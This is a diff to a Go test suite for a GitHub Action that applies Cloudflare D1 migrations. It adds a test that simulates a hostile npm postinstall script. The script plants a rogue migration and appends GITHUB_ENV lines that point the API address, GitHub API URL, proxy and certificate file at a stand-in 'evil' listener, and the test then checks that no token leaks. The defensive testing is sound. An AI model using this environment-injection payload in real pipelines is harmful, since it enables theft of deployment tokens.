@@ -30,6 +30,8 @@ type team struct {
 	ids    map[string]*d1test.Database
 	vars   map[string]string
 	runs   int
+
+	anywhere bool // a step that names no API gets the stand-in's
 }
 
 // oneLine is the change that a team makes to each of the workflows.
@@ -42,6 +44,7 @@ func newTeam(t *testing.T) *team {
 		t.Fatal(err)
 	}
 	m := &team{action: own, t: t, hub: githubtest.New(), cloud: d1test.New(), tools: t.TempDir(), ids: map[string]*d1test.Database{}, vars: map[string]string{"CLOUDFLARE_ACCOUNT_ID": d1test.Account, "BASE_URL": "https://shop.test"}}
+	m.vars["CLOUDFLARE_API_ADDRESS"] = m.cloud.URL
 	t.Cleanup(m.hub.Close)
 	t.Cleanup(m.cloud.Close)
 	files := map[string]string{
@@ -65,7 +68,8 @@ func newTeam(t *testing.T) *team {
 	m.source = workspace(t, files)
 	// npm fails the smoke test of an environment for as long as a file says so, and a deployment
 	// is a new version; gh hands its words on.
-	m.tool("npm", `case "$2" in
+	m.tool("npm", `if test "$1" = ci && test -e "$TOOLS/postinstall"; then exec sh "$TOOLS/postinstall"; fi
+case "$2" in
   deploy:*) test -n "$CLOUDFLARE_API_TOKEN" && echo "${2#deploy:}" >>"$TOOLS/deployed" ;;
   test:smoke:*) test -n "$BASE_URL" && ! test -e "$TOOLS/${2#test:smoke:}-is-broken" ;;
 esac`)
@@ -91,7 +95,7 @@ func (m *team) tool(name, script string) {
 }
 
 func (m *team) environ() []string {
-	return []string{"PATH=" + m.tools + ":" + os.Getenv("PATH"), "HOME=" + m.tools, "TOOLS=" + m.tools, "CLOUDFLARE_API_BASE_URL=" + m.cloud.URL}
+	return []string{"PATH=" + m.tools + ":" + os.Getenv("PATH"), "HOME=" + m.tools, "TOOLS=" + m.tools}
 }
 
 // do runs a workflow, the action being this program.
@@ -102,7 +106,7 @@ func (m *team) do(workflow string, run githubtest.Run) githubtest.Results {
 	run.Secrets = map[string]string{"CLOUDFLARE_API_TOKEN": d1test.Token, "GITHUB_TOKEN": githubtest.RunnerToken}
 	run.Vars, run.APIURL, run.RunID, run.Environ = m.vars, m.hub.API(), fmt.Sprint(m.runs), m.environ()
 	run.Action = func(ctx context.Context, call githubtest.Call) int {
-		if call.Getenv("INPUT_API-ADDRESS") == "" { // a workflow that does not name the stand-in
+		if m.anywhere && call.Getenv("INPUT_API-ADDRESS") == "" {
 			call.Env = append(call.Env, "INPUT_API-ADDRESS="+m.cloud.URL)
 		}
 		return act(m.t, ctx, m.cloud, call)
@@ -329,6 +333,41 @@ jobs:
 		t.Errorf("d1.yml: %+v", results)
 	}
 	keeps("at the end")
+}
+
+// TestHostileDependency lets a package's install script write a migration, say where the token goes,
+// and listen there. It runs after the migrations, and what runs after it does not listen to it.
+func TestHostileDependency(t *testing.T) {
+	m := newTeam(t)
+	evil := d1test.New()
+	t.Cleanup(evil.Close)
+	if err := os.WriteFile(filepath.Join(m.tools, "postinstall"), []byte(`set -eu
+echo 'CREATE TABLE stolen (x);' >migrations/0099_stolen.sql
+for name in CLOUDFLARE_API_BASE_URL INPUT_API-ADDRESS GITHUB_API_URL HTTP_PROXY; do
+  echo "$name=`+evil.URL+`" >>"$GITHUB_ENV"
+done
+echo "SSL_CERT_FILE=$PWD/evil.pem" >>"$GITHUB_ENV"
+touch "$TOOLS/was-run"
+`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	m.vars["D1_RESTORE_ON_FAILURE"] = "true"
+	if results := m.merge(1, "", ""); results.Conclusion() != githubtest.Success {
+		t.Fatalf("%+v", results)
+	}
+	m.breaks("production", true) // so that a step that writes comes after the script
+	m.want(m.merge(2, "0002_orders.sql", "CREATE TABLE orders (id INTEGER PRIMARY KEY);"), "production", githubtest.Failure, "restored to")
+	if _, err := os.Stat(filepath.Join(m.tools, "was-run")); err != nil {
+		t.Error("the script was not run: the test proves nothing")
+	}
+	for name, database := range m.ids {
+		if rows := database.Rows("SELECT name FROM sqlite_schema WHERE name = 'stolen' UNION ALL SELECT name FROM d1_migrations WHERE name LIKE '%stolen%'"); len(rows) > 0 {
+			t.Errorf("%s has %q", name, rows)
+		}
+	}
+	if requests := evil.Requests(); len(requests) > 0 {
+		t.Errorf("the listener got %v", requests)
+	}
 }
 
 // Restoring by itself discards what was written since, so that somebody has to want it.
